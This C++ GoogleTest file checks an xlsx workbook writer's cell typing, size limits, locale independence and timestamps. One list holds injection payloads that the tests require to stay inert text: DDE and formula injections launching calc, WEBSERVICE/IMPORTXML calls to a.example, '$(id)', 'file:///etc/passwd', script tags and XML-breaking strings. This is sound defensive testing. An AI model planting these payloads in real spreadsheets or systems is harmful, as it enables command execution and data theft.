// What stands in a sheet is read with openpyxl, which shares no code with the writer.

#include "documents/workbook.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <clocale>
#include <cstdlib>
#include <string>
#include <vector>

#include "base/canonical_json.h"
#include "fordela/amount.h"
#include "fordela/error.h"
#include "support/archive_files.h"
#include "support/spreadsheets.h"

namespace fordela {
namespace {

using testing::HasSubstr;

Table OneColumn(const std::vector<Cell>& cells) {
  Table table{{{"Text"}}, {}, {}};
  for (const Cell& cell : cells) table.rows.push_back({cell});
  return table;
}

std::string CellsOf(const Table& table) {
  const test::SpreadsheetReaders readers;
  test::WriteBytes(readers.folder() / "sheet.xlsx", RenderTableXlsx(table));
  return readers.Read("cells sheet.xlsx Data");
}

TEST(WorkbookTest, KeepsCodesAsTextsAndNumbersAsNumbers) {
  EXPECT_EQ(CellsOf(OneColumn({Cell::Code("01"), Cell::Text("01"), Cell::Year(2025),
                               Cell::Integer(1'234'567), Cell::Difference(-1), Cell::None(),
                               Cell::Decimal("17.29"), Cell::Percent("23.26")})),
            "\"Text\"\n\"01\"\n\"01\"\n2025\n1234567\n-1\n\n17.29\n0.2326\n");
}

TEST(WorkbookTest, KeepsTheLargestAmountExactly) {
  EXPECT_EQ(CellsOf(OneColumn({Cell::Integer(kMaxKronor), Cell::Integer(kMaxKronor - 1),
                               Cell::Difference(-kMaxKronor)})),
            "\"Text\"\n999999999999999\n999999999999998\n-999999999999999\n");
}

TEST(WorkbookTest, LeavesOutTheSum) {
  Table table = OneColumn({Cell::Integer(1)});
  table.sum = Row{Cell::Integer(7)};
  EXPECT_EQ(CellsOf(table), "\"Text\"\n1\n");
}

TEST(WorkbookTest, HoldsATableWithoutRows) { EXPECT_EQ(CellsOf(OneColumn({})), "\"Text\"\n"); }

/// What somebody might try, and what is then to be seen.
struct Payload {
  std::string text;
  std::string seen;
};

std::vector<Payload> Payloads() {
  std::vector<Payload> payloads;
  for (const char* text :
       {"=1+1", "=cmd|' /C calc'!A0", "=SUM(A1:A9)", "+1", "+46701234567", "-1", "-1+1|cmd",
        "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example\";\"b\")",
        "=WEBSERVICE(\"http://a.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=IMPORTXML(CONCAT(\"http://a.example/\",A1),\"//a\")", "{=1+1}", "'=1+1", "''=1+1",
        "\"=1+1\"", "＝1+1", "＋1", "－1", "＠SUM(1)", "=", "+", "-", "@", "'", "\"", ";=1+1",
        ",=1+1", "| calc", "%0A=1+1", "http://a.example/", "https://a.example/?q=1",
        "mailto:a@example.org", "ftp://a.example", "file:///etc/passwd", "internal:Data!A1",
        "external:c:\\x.xlsx", "<b>bold</b>", "<script>alert(1)</script>", "</t></si></sst>", "]]>",
        "<![CDATA[x]]>", "<!-- x -->", "<?xml version=\"1.0\"?>", "&amp;", "&#61;1+1", "&lt;", "&",
        "' onload='x", "a\\b", "{{x}}", "{}", "%s%n", "${x}", "`id`", "$(id)", "TRUE", "1E5", "1-2",
        "2025-12-11", "0x1F", "#REF!", "#N/A", "1,5", " padded ", "Å Ä Ö å ä ö – −", "😀",
        // Spreadsheets take these for the code of a character.
        "_x000D_", "_x003d_1+1", "_x000D_x000A_", "_x00_"}) {
    payloads.push_back({text, text});
  }
  payloads.push_back({"=1\t+1", "=1\\x09+1"});
  payloads.push_back({"\t=1+1", "\\x09=1+1"});
  payloads.push_back({"\r=1+1", "\\x0d=1+1"});
  payloads.push_back({"a\n=1+1", "a\\x0a=1+1"});
  payloads.push_back({"\x1b[2J\x1b]0;x\x07", "\\x1b[2J\\x1b]0;x\\x07"});
  payloads.push_back({std::string("a\0b", 3), "a\\x00b"});
  payloads.push_back({"\x7f", "\\x7f"});
  payloads.push_back({"\u202eabc", "\\u{202e}abc"});
  payloads.push_back({"a\u2066b\u2069", "a\\u{2066}b\\u{2069}"});
  payloads.push_back({"\u2028", "\\u{2028}"});
  payloads.push_back({"\xff\xfe", "\\xff\\xfe"});
  return payloads;
}

TEST(WorkbookTest, HoldsEveryPayloadAsAnInertText) {
  std::vector<Cell> cells;
  std::string seen = "\"Text\"\n";
  for (const Payload& payload : Payloads()) {
    cells.push_back(Cell::Text(payload.text));
    seen += JsonString(payload.seen) + "\n";
  }
  EXPECT_EQ(CellsOf(OneColumn(cells)), seen);
}

TEST(WorkbookTest, HoldsEveryPayloadAsTheSameTextForLibreOffice) {
  if (!test::SpreadsheetReaders::HasLibreOffice()) {
    GTEST_SKIP() << test::SpreadsheetReaders::WithoutLibreOffice();
  }
  const test::SpreadsheetReaders readers;
  std::vector<Cell> cells;
  std::string seen = "\"Text\"\n";
  for (const Payload& payload : Payloads()) {
    cells.push_back(Cell::Text(payload.text));
    seen += JsonString(payload.seen) + "\n";
  }
  test::WriteBytes(readers.folder() / "sheet.xlsx", RenderTableXlsx(OneColumn(cells)));
  readers.SaveAsFods("sheet.xlsx", "");
  EXPECT_EQ(readers.Read("texts sheet.fods"), seen);
}

TEST(WorkbookTest, BreaksNoHeaderWithAnAmpersandOrALongTitle) {
  Table table = OneColumn({Cell::Integer(1)});
  table.title = "&L&\"Arial\"&99 R&D ";
  for (int i = 0; i < 300; ++i) table.title += "&å";
  EXPECT_EQ(CellsOf(table), "\"Text\"\n1\n");
}

TEST(WorkbookTest, SaysWhatASheetCannotHold) {
  EXPECT_EQ(CellsOf(OneColumn({Cell::Text(std::string(32'767, 'x'))})).size(), 32'777U);
  try {
    RenderTableXlsx(OneColumn({Cell::Text(std::string(32'768, 'x'))}));
    ADD_FAILURE() << "it did not fail";
  } catch (const Error& error) {
    EXPECT_EQ(error.code(), ErrorCode::kFailed);
    EXPECT_THAT(error.what(), HasSubstr("32,767 characters"));
  }
}

TEST(WorkbookTest, HasTheSameBytesWhereNumbersAreWrittenWithACommaAndTheClockIsElsewhere) {
  const Table table = OneColumn({Cell::Percent("23.26"), Cell::Decimal("17.29")});
  const std::string before = RenderTableXlsx(table);
  const test::SpreadsheetReaders readers;
  const std::string made = (readers.folder() / "sv_SE.UTF-8").string();
  if (readers.Run("localedef -i sv_SE -f UTF-8 " + made).status != 0) {
    GTEST_SKIP() << "NOT TESTED: no Swedish locale can be made (localedef, of the package locales)";
  }
  ::setenv("LOCPATH", readers.folder().path().c_str(), 1);
  ::setenv("TZ", "Pacific/Kiritimati", 1);
  const char* swedish = std::setlocale(LC_ALL, "sv_SE.UTF-8");
  EXPECT_NE(swedish, nullptr);
  EXPECT_STREQ(std::localeconv()->decimal_point, ",");
  const std::string after = RenderTableXlsx(table);
  EXPECT_STREQ(std::localeconv()->decimal_point, ",") << "the caller's locale is left alone";
  std::setlocale(LC_ALL, "C");
  ::unsetenv("LOCPATH");
  ::unsetenv("TZ");
  EXPECT_TRUE(before == after);
}

TEST(WorkbookTest, StatesTheInstantThatItIsGivenAndNeverTheClocks) {
  const Workbook first{"T", "F", Instant{std::chrono::seconds{0}}, {{"Data", OneColumn({})}}};
  Workbook second = first;
  second.created = std::chrono::sys_days{std::chrono::year{2025} / 12 / 11};
  EXPECT_TRUE(RenderWorkbook(first, Language::kSwedish) ==
              RenderWorkbook(first, Language::kSwedish));
  EXPECT_FALSE(RenderWorkbook(first, Language::kSwedish) ==
               RenderWorkbook(second, Language::kSwedish));
  const test::SpreadsheetReaders readers;
  test::WriteBytes(readers.folder() / "a.xlsx", RenderWorkbook(first, Language::kSwedish));
  test::WriteBytes(readers.folder() / "b.xlsx", RenderWorkbook(second, Language::kSwedish));
  EXPECT_EQ(readers.Read("created a.xlsx"), "1980-01-01T00:00:00\n");
  EXPECT_EQ(readers.Read("created b.xlsx"), "2025-12-11T00:00:00\n");
}

}  // namespace
}  // namespace fordela
